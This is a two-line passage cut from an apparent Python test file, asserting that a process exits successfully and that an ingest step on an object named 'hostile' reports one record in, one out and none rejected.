    assert allowed.code == 0, allowed.stderr
    assert hostile.metrics("ingest", f"{source}_ok") == {"in": 1, "out": 1, "rejected": 0, "rejected_by_reason": {}}

